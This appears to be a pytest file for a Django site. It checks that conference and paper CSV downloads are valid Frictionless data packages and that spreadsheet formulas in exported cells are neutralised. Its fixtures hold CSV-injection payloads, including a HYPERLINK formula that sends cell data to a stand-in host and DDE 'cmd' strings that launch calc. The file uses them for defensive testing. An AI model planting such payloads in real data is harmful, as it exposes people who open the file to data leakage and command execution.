"""The CSV downloads open everywhere (issue 32, finding 7): Frictionless, the Data
Package's reference implementation, finds them valid with their keys, and no cell is a
live spreadsheet formula (OWASP, "CSV Injection")."""

import csv
import io
import json

import pytest

from catalogue.models import Author, Award, AwardLevel, Conference, Institution, Paper, PaperLink
from opendata.downloads import csv_text
from tests import factories
from tests.opendata.datapackages import frictionless_errors, rows, unzip

# Text a spreadsheet runs as a formula starts with one of these (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# One-line fields (titles, names) get the formulas; text of several lines gets them
# too, and the tab and line breaks. Quotes and commas go everywhere. Text fields store
# a carriage return as a line break: a web address keeps it (homepage).
ONE_LINE = [
    '=HYPERLINK("https://evil.example/?"&A1, "Click, here")',
    '+cmd|" /C calc"!A0',
    "-2+3, minus",
    "@SUM(1+1)*cmd",
    '\'=already quoted, "twice"',
]
LINES = [
    "\t=1+1, after a tab",
    "\r=2+2, after a carriage return",
    '=3+3\nsecond line, "quoted"\n\n-last line',
    '"quoted", with, commas',
]


def hostile_conference():
    """A published conference whose every exported text field starts with a payload:
    its paper (slug starting with "-"), authors, institution, award, level and links.
    Values are written by update(), as a careless import would have stored them."""
    award = factories.award(slug="-award")
    conference = award.conference
    institution = factories.institution(slug="-institution")
    first, second = factories.author(slug="-author"), factories.author()
    paper = factories.paper(
        slug="-paper",
        conference=conference,
        authors=[first, second],
        affiliations=[institution],
        links=[(PaperLink.Kind.ARXIV, "https://arxiv.org/abs/2501.00001")],
    )
    factories.award_entry(award, paper, level="-level")
    Paper.objects.filter(pk=paper.pk).update(
        title_en=ONE_LINE[0],
        title_zh_hans=ONE_LINE[1],
        abstract_en=LINES[0],
        abstract_zh_hans=LINES[1],
        summary_en=LINES[2],
        summary_zh_hans=LINES[3],
        pages="-12",
    )
    PaperLink.objects.filter(paper=paper).update(url="=cmd|' /C calc'!A0")
    Author.objects.filter(pk=first.pk).update(
        name=ONE_LINE[2], other_names=f"{ONE_LINE[3]}\n{ONE_LINE[4]}", homepage="\r@home"
    )
    Author.objects.filter(pk=second.pk).update(name=ONE_LINE[4], orcid="+0000")
    Institution.objects.filter(pk=institution.pk).update(
        name_en=ONE_LINE[3], name_zh_hans=ONE_LINE[0], country="-DE", website="=site"
    )
    Award.objects.filter(pk=award.pk).update(
        name_en=ONE_LINE[1],
        name_zh_hans=ONE_LINE[2],
        description_en=LINES[0],
        description_zh_hans=LINES[2],
    )
    AwardLevel.objects.filter(award=award).update(name_en=ONE_LINE[3], name_zh_hans=ONE_LINE[4])
    Conference.objects.filter(pk=conference.pk).update(name_en=ONE_LINE[0])
    return conference, paper


def text_cells(files):
    """``[(table, column, cell)]`` of every cell of a text column (type "string" in the
    download's datapackage.json), read as a CSV reader reads them."""
    package = json.loads(files["datapackage.json"])
    cells = []
    for resource in package["resources"]:
        text = {f["name"] for f in resource["schema"]["fields"] if f["type"] == "string"}
        for row in csv.DictReader(io.StringIO(files[resource["path"]], newline="")):
            cells += [(resource["name"], column, row[column]) for column in text]
    return cells


def original(cell):
    """A cell's text as stored: without the quote the download put before it."""
    return cell.removeprefix("'")


@pytest.mark.django_db
@pytest.mark.parametrize("whole_site", [False, True])
def test_hostile_conference_download_has_no_live_formula_and_reads_back(client, whole_site):
    conference, paper = hostile_conference()
    url = (
        "/data/awardsite-csv.zip" if whole_site else f"/data/conferences/{conference.slug}-csv.zip"
    )

    files = unzip(client.get(url))  # valid for Frictionless, keys included

    cells = text_cells(files)
    assert [cell for cell in cells if cell[2].startswith(FORMULA_STARTS)] == []
    (row,) = [r for r in rows(files, "papers") if original(r["slug"]) == paper.slug]
    stored = Paper.objects.get(pk=paper.pk)
    assert [original(row[column]) for column in ["title_en", "abstract_zh_hans", "summary_en"]] == [
        stored.title_en,
        stored.abstract_zh_hans,
        stored.summary_en,
    ]
    assert (row["slug"], row["pages"], row["link_arxiv"]) == (
        "'-paper",
        "'-12",
        "'=cmd|' /C calc'!A0",
    )
    assert row["title_zh_hans"] == "'" + ONE_LINE[1]
    # The already quoted text gets a second quote, so removing one gives it back.
    (author,) = [r for r in rows(files, "authors") if r["name"] == "''" + ONE_LINE[4][1:]]
    assert original(author["name"]) == ONE_LINE[4]
    (first,) = [r for r in rows(files, "authors") if r["slug"] == "'-author"]
    assert (first["homepage"], first["name"]) == ("'\r@home", "'" + ONE_LINE[2])
    (entry,) = rows(files, "entries")
    assert (entry["award"], entry["paper"], entry["level"]) == ("'-award", "'-paper", "'-level")
    # Every payload kind was there to neutralise.
    starts = {original(cell)[:1] for _table, _column, cell in cells}
    assert set(FORMULA_STARTS) <= starts


@pytest.mark.django_db
def test_numbers_are_not_text_and_keep_their_sign():
    text = csv_text([(-3, "-3", 2025, "-x")], ["position", "pages", "year", "slug"])

    assert text == "position,pages,year,slug\r\n-3,'-3,2025,'-x\r\n"


@pytest.mark.django_db
def test_download_readme_says_how_formulas_are_neutralised(client):
    conference, _paper = hostile_conference()

    readme = unzip(client.get(f"/data/conferences/{conference.slug}-csv.zip"))["README.txt"]

    assert 'So that no spreadsheet runs a cell as a formula (OWASP, "CSV Injection")' in readme
    assert "starts with =, +, -, @, a tab, a carriage return or ' is written with a" in readme


@pytest.mark.django_db
def test_datapackage_declares_each_tables_keys(client):
    conference, _paper = hostile_conference()

    files = unzip(client.get(f"/data/conferences/{conference.slug}-csv.zip"))

    package = json.loads(files["datapackage.json"])
    keys = {
        resource["name"]: (
            resource["schema"]["primaryKey"],
            [
                (key["fields"], key["reference"]["resource"], key["reference"]["fields"])
                for key in resource["schema"].get("foreignKeys", [])
            ],
        )
        for resource in package["resources"]
    }
    assert keys == {
        "papers": (["slug"], []),
        "authors": (["slug"], []),
        "authorships": (
            ["paper", "position"],
            [(["paper"], "papers", ["slug"]), (["author"], "authors", ["slug"])],
        ),
        "institutions": (["slug"], []),
        "awards": (["conference", "slug"], []),
        "entries": (
            ["conference", "award", "paper"],
            [
                (["conference", "award"], "awards", ["conference", "slug"]),
                (["paper"], "papers", ["slug"]),
            ],
        ),
    }


@pytest.mark.django_db
def test_frictionless_finds_a_row_that_breaks_a_key(client):
    """The validation the other tests rely on does look at the keys: a download with
    an award entry whose paper is missing from papers.csv, or a paper twice, fails."""
    conference, paper = hostile_conference()
    files = unzip(client.get(f"/data/conferences/{conference.slug}-csv.zip"))
    header, *lines = files["papers.csv"].split("\n'-paper,")

    without_paper = {**files, "papers.csv": header + "\n"}
    twice = {**files, "papers.csv": files["papers.csv"] + files["papers.csv"].split("\n", 1)[1]}

    assert lines  # the paper's row was found and cut
    assert {error.split(":")[0] for error in frictionless_errors(without_paper)} == {"foreign-key"}
    assert {error.split(":")[0] for error in frictionless_errors(twice)} == {"primary-key"}


@pytest.mark.parametrize("url", ["/data/awardsite-csv.zip", "/data/conferences/icml-2025-csv.zip"])
def test_shipped_content_downloads_are_valid_data_packages(client, icml, url):
    files = unzip(client.get(url))  # asserts that Frictionless finds no error

    assert len(rows(files, "papers")) > 10
    assert rows(files, "entries")
    assert json.loads(files["datapackage.json"])["created"].endswith("T00:00:00Z")


@pytest.mark.django_db
def test_download_with_a_licence_is_a_valid_data_package(client, settings):
    settings.DATA_LICENCE = "CC BY 4.0"
    conference, _paper = hostile_conference()

    files = unzip(client.get(f"/data/conferences/{conference.slug}-csv.zip"))

    assert "Licence: CC BY 4.0" in files["README.txt"]
